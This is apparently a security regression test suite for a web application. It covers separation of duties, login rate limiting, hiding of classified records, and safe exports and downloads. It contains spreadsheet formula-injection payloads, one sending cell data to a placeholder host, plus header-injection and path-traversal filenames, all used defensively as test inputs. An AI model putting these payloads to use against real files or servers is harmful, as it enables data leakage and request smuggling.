"""What an attack on a running server found (issue #21), reproduced and held: separation of
duties, a login rate limit that forged headers and extra processes cannot dodge, versions
and keys that reveal nothing above the viewer's clearance, formula-free exports, downloads
whose names cannot break the header, and a bad token on a page is a 401 with every header."""

from __future__ import annotations

import io
import os
import sys
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from partnerships.domain.context import LOCAL_USER, UserContext
from partnerships.domain.decisions import DecisionError, DecisionRecord
from partnerships.domain.risks import Risk, RiskError
from partnerships.services import accounts, audit, commitments, decisions, risks, tokens
from partnerships.services.commitments import TrackedCommitment
from partnerships.services.knowledge_base import KnowledgeBase
from partnerships.services.spreadsheets import neutralise
from partnerships.web.app import create_app
from partnerships.web.downloads import content_disposition
from support.server import serving
from support.web import web_client

PASSWORD = "correct horse battery staple"
COMMAND = Path(sys.executable).parent / "partnerships"
OPENBAAR_ANALYST = UserContext("a.open", frozenset({"analyst"}), "openbaar")
TOP_ANALYST = UserContext("a.top", frozenset({"analyst"}), "vertrouwelijk")


def _admins(kb: KnowledgeBase) -> None:
    for name, level in (("admin1", "openbaar"), ("admin2", "vertrouwelijk"),
                        ("admin3", "vertrouwelijk")):  # fmt: skip
        accounts.create_user(kb, LOCAL_USER, name, "admin", level, PASSWORD, operator=True)


# -- separation of duties ---------------------------------------------------------------------
def test_nobody_changes_their_own_role_or_clearance(kb: KnowledgeBase) -> None:
    _admins(kb)
    me = accounts.context_of_name(kb, "admin1")
    with pytest.raises(accounts.AccountError, match="nobody changes their own"):
        accounts.update_user(kb, me, "admin1", clearance="intern")
    with pytest.raises(accounts.AccountError, match="nobody changes their own"):
        accounts.update_user(kb, me, "admin1", roles="reader")
    assert accounts.context_of_name(kb, "admin1").clearance == "openbaar"
    accounts.update_user(kb, me, "admin1", password="another long password")  # own password: fine


def test_raising_to_vertrouwelijk_needs_a_second_admin(kb: KnowledgeBase) -> None:
    _admins(kb)
    accounts.create_user(kb, LOCAL_USER, "lezer", "reader", "openbaar", PASSWORD, operator=True)
    asker = accounts.context_of_name(kb, "admin2")
    accounts.update_user(kb, asker, "lezer", clearance="vertrouwelijk")
    assert accounts.context_of_name(kb, "lezer").clearance == "openbaar"  # only requested
    (waiting,) = accounts.clearance_requests(kb, asker)
    assert waiting.username == "lezer" and waiting.requested_by == "admin2"
    with pytest.raises(accounts.AccountError, match="waiting already"):
        accounts.update_user(kb, asker, "lezer", clearance="vertrouwelijk")
    with pytest.raises(accounts.AccountError, match="second administrator"):
        accounts.decide_clearance(kb, asker, waiting.id, approve=True)
    accounts.decide_clearance(kb, accounts.context_of_name(kb, "admin3"), waiting.id, True)
    assert accounts.context_of_name(kb, "lezer").clearance == "vertrouwelijk"
    changes = [e.detail for e in audit.entries(kb, LOCAL_USER, action="permission")]
    assert any("clearance requested" in d for d in changes)
    assert any("clearance approved" in d for d in changes)


def test_an_admin_cannot_raise_themselves_through_another_request(kb: KnowledgeBase) -> None:
    """The attack: an openbaar admin raises their own clearance. Asking for it is refused;
    a request someone else filed for them cannot be approved by them either."""
    _admins(kb)
    me = accounts.context_of_name(kb, "admin1")
    with pytest.raises(accounts.AccountError, match="nobody changes their own"):
        accounts.update_user(kb, me, "admin1", clearance="vertrouwelijk")
    accounts.update_user(kb, accounts.context_of_name(kb, "admin2"), "admin1",
                         clearance="vertrouwelijk")  # fmt: skip
    (waiting,) = accounts.clearance_requests(kb, me)
    with pytest.raises(accounts.AccountError, match="second administrator"):
        accounts.decide_clearance(kb, me, waiting.id, approve=True)
    accounts.decide_clearance(kb, accounts.context_of_name(kb, "admin3"), waiting.id, False)
    assert accounts.context_of_name(kb, "admin1").clearance == "openbaar"


def test_a_new_confidential_account_waits_for_approval(kb: KnowledgeBase) -> None:
    _admins(kb)
    accounts.create_user(kb, accounts.context_of_name(kb, "admin2"), "nieuw", "reader",
                         "vertrouwelijk", PASSWORD)  # fmt: skip
    assert accounts.context_of_name(kb, "nieuw").clearance == "intern"
    assert [r.username for r in accounts.clearance_requests(kb, LOCAL_USER)] == ["nieuw"]


def _login(client: TestClient, name: str) -> None:
    client.get("/inloggen")
    done = client.post("/inloggen", data={"gebruikersnaam": name, "wachtwoord": PASSWORD,
                                          "csrf_token": client.cookies.get("csrf")},
                       follow_redirects=False)  # fmt: skip
    assert done.status_code == 303, done.text


def test_the_approval_in_the_browser(kb: KnowledgeBase) -> None:
    _admins(kb)
    accounts.create_user(kb, LOCAL_USER, "lezer", "reader", "openbaar", PASSWORD, operator=True)
    asker = TestClient(create_app(kb))
    _login(asker, "admin2")
    own = asker.post("/beheer/gebruikers/admin2", data={
        "rol": "reader", "rubricering": "vertrouwelijk", "actief": "1",
        "csrf_token": asker.cookies.get("csrf")})  # fmt: skip
    assert own.status_code == 400 and "eigen" in own.text
    asker.post("/beheer/gebruikers/lezer", data={
        "rol": "reader", "rubricering": "vertrouwelijk", "actief": "1",
        "csrf_token": asker.cookies.get("csrf")})  # fmt: skip
    page = asker.get("/beheer/gebruikers")
    assert "Verzoeken die wachten op een tweede beheerder" in page.text
    (waiting,) = accounts.clearance_requests(kb, LOCAL_USER)
    refused = asker.post(
        f"/beheer/rubriceringsverzoeken/{waiting.id}",
        data={"besluit": "goedkeuren", "csrf_token": asker.cookies.get("csrf")},
    )
    assert refused.status_code == 400
    second = TestClient(create_app(kb))
    _login(second, "admin3")
    done = second.post(f"/beheer/rubriceringsverzoeken/{waiting.id}",
                       data={"besluit": "goedkeuren", "csrf_token": second.cookies.get("csrf")},
                       follow_redirects=False)  # fmt: skip
    assert done.status_code == 303
    assert accounts.context_of_name(kb, "lezer").clearance == "vertrouwelijk"


# -- login rate limit ---------------------------------------------------------------------------
def test_the_rate_limit_is_shared_by_server_processes(kb: KnowledgeBase) -> None:
    """Two apps on one base stand for two server processes: together they allow the limit,
    not twice the limit."""
    limit = kb.settings.login_rate_per_minute
    apps = [TestClient(create_app(KnowledgeBase(kb.settings))) for _ in range(2)]
    codes = []
    for i in range(limit + 4):
        client = apps[i % 2]
        client.get("/inloggen")
        codes.append(client.post("/inloggen", data={
            "gebruikersnaam": "x", "wachtwoord": "wrong password!",
            "csrf_token": client.cookies.get("csrf")}).status_code)  # fmt: skip
    assert codes[:limit].count(429) == 0 and codes[limit:] == [429] * 4


def test_a_forged_forwarded_for_does_not_dodge_the_limit(kb: KnowledgeBase, tmp_path: Path) -> None:
    """Against `partnerships serve` itself (uvicorn decides which headers to believe)."""
    env = {**os.environ, "PARTNERSHIPS_DATABASE_URL": kb.url,
           "PARTNERSHIPS_DATA_DIR": str(tmp_path)}  # fmt: skip
    with serving(COMMAND, env) as base, httpx.Client(base_url=base, timeout=10) as client:
        client.get("/inloggen")
        codes = []
        for i in range(kb.settings.login_rate_per_minute + 3):
            codes.append(client.post(
                "/inloggen",
                data={"gebruikersnaam": "x", "wachtwoord": "wrong password!",
                      "csrf_token": client.cookies.get("csrf")},
                headers={"X-Forwarded-For": f"203.0.113.{i}"},
            ).status_code)  # fmt: skip
    assert codes[-3:] == [429, 429, 429], codes
    failures = [e for e in audit.entries(kb, LOCAL_USER, action="login_failed")]
    assert failures and all('"client": "127.0.0.1"' in e.detail for e in failures)


# -- hidden versions and keys -------------------------------------------------------------------
def _risk(key: str = "", level: str = "openbaar") -> Risk:
    from datetime import date, timedelta

    return Risk(country="LBY", category="detentie", description="Detentie", likelihood=4,
                impact=5, mitigation="m", owner="DMM", key=key, classification=level,
                review_date=date.today() + timedelta(days=90))  # fmt: skip


def test_decision_versions_reveal_nothing_and_cannot_be_superseded_unseen(
    kb: KnowledgeBase,
) -> None:
    decisions.record_decision(
        kb, TOP_ANALYST, DecisionRecord("MAR", "open 1", (), "r", "w", classification="openbaar")
    )
    decisions.record_decision(kb, TOP_ANALYST, DecisionRecord(
        "MAR", "geheim", (), "r", "w", classification="vertrouwelijk"))  # fmt: skip
    with pytest.raises(DecisionError, match="with your clearance"):
        decisions.record_decision(
            kb,
            OPENBAAR_ANALYST,
            DecisionRecord("MAR", "open 2", (), "r", "w", classification="openbaar"),
        )
    decisions.record_decision(
        kb, TOP_ANALYST, DecisionRecord("MAR", "open 3", (), "r", "w", classification="openbaar")
    )
    seen_low = decisions.decision_history(kb, OPENBAAR_ANALYST, "MAR") or []
    assert [(d.record.title, d.shown) for d in seen_low] == [("open 3", 2), ("open 1", 1)]
    seen_top = decisions.decision_history(kb, TOP_ANALYST, "MAR") or []
    assert [d.shown for d in seen_top] == [3, 2, 1]
    made = decisions.record_decision(
        kb,
        OPENBAAR_ANALYST,
        DecisionRecord("MAR", "open 4", (), "r", "w", classification="openbaar"),
    )
    assert made.shown == 3  # third among what the author sees


def test_a_hidden_risk_key_is_answered_like_an_unknown_one(kb: KnowledgeBase) -> None:
    hidden = risks.record_risk(kb, TOP_ANALYST, _risk(level="vertrouwelijk")).risk.key
    with pytest.raises(RiskError) as unknown:
        risks.record_risk(kb, OPENBAAR_ANALYST, _risk(key="0" * 32))
    with pytest.raises(RiskError) as secret:
        risks.record_risk(kb, OPENBAAR_ANALYST, _risk(key=hidden))
    assert str(secret.value) == str(unknown.value).replace("0" * 32, hidden)
    client = web_client(create_app(kb))
    accounts.create_user(kb, LOCAL_USER, "ao", "analyst", "openbaar", PASSWORD, operator=True)
    token, _ = tokens.create_token(kb, accounts.context_of_name(kb, "ao"), "t",
                                     "lezen,schrijven")  # fmt: skip
    body = {"categorie": "detentie", "omschrijving": "x", "kans": 2, "impact": 2,
            "mitigatie": "m", "eigenaar": "o", "herbeoordeling": "2030-01-01",
            "rubricering": "openbaar"}  # fmt: skip
    answers = [
        client.post("/api/v1/landen/LBY/risicos", json=body | {"sleutel": key},
                    headers={"Authorization": f"Bearer {token}"})
        for key in ("0" * 32, hidden)
    ]  # fmt: skip
    assert [a.status_code for a in answers] == [400, 400]
    assert answers[1].json()["detail"] == answers[0].json()["detail"].replace("0" * 32, hidden)


# -- a bad token on a page ---------------------------------------------------------------------
def test_a_bad_bearer_token_on_a_page_is_a_401_with_the_security_headers(
    kb: KnowledgeBase,
) -> None:
    client = TestClient(create_app(kb), raise_server_exceptions=False)
    for url in ("/", "/landen", "/zoeken?q=migratie", "/api/v1/documenten"):
        answer = client.get(url, headers={"Authorization": "Bearer pmt_not-a-token"})
        assert answer.status_code == 401, url
        assert "Bearer" in answer.headers["www-authenticate"]
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
        assert answer.headers["x-content-type-options"] == "nosniff"


# -- exports and downloads -----------------------------------------------------------------------
ATTACKS = ['=HYPERLINK("http://example.invalid/?x="&A1,"klik")', "+1+2", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "＝1+1"]  # fmt: skip


def test_export_cells_never_start_a_formula() -> None:
    items = [TrackedCommitment(key="k", text=a, kind="handmatig", manual=True, status="open",
                               due=None, due_text=None, responsible=a, promiser=None,
                               subject=None, note=a, letter=None, start=None,
                               fulfilled_by=None, proposals=())
             for a in ATTACKS]  # fmt: skip
    text = commitments.export(items, "csv").decode("utf-8-sig")
    import csv

    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell
    assert rows[1][4] == "'" + ATTACKS[0]
    book = load_workbook(io.BytesIO(commitments.export(items, "xlsx")))
    sheet = book.active
    assert sheet is not None
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type in ("s", "inlineStr"), (cell.coordinate, cell.value)
    assert sheet["E2"].value == ATTACKS[0]  # the text itself, as text
    assert neutralise("gewone tekst") == "gewone tekst" and neutralise(None) == ""


@pytest.mark.parametrize(
    "name",
    [
        'brief "x".pdf',
        "brief\r\nSet-Cookie: a=b.pdf",
        "Überblick – migratie.pdf",
        "../../etc/passwd",
        "a\\b.md",
        "\x00.txt",
    ],
)
def test_download_names_never_break_the_header(name: str) -> None:
    value = content_disposition(name)
    assert "\r" not in value and "\n" not in value and "\x00" not in value
    plain = value.split('filename="', 1)[1].split('"', 1)[0]
    assert '"' not in plain and "/" not in plain and "\\" not in plain
    if not name.isascii() or '"' in name:
        assert "filename*=UTF-8''" in value
    from email.message import Message

    msg = Message()
    msg["Content-Disposition"] = value
    assert msg.get_filename()


def test_an_original_with_an_awkward_name_downloads(kb: KnowledgeBase, tmp_path: Path,
                                                     letters_dir: Path) -> None:  # fmt: skip
    awkward = tmp_path / 'brief "over" migratie\r\nX: y.md'
    awkward.write_bytes((letters_dir / "a-migratieovereenkomsten.md").read_bytes())
    report = kb.ingest([awkward])
    assert report.new, report.failed
    client = TestClient(create_app(kb))
    from sqlalchemy import select

    from partnerships.store.schema import Document

    with kb.session() as s:
        doc_id = s.scalar(select(Document.id))
    answer = client.get(f"/api/v1/documenten/{doc_id}/origineel")
    assert answer.status_code == 200
    assert "filename*=UTF-8''" in answer.headers["content-disposition"]
    assert answer.content == awkward.read_bytes()
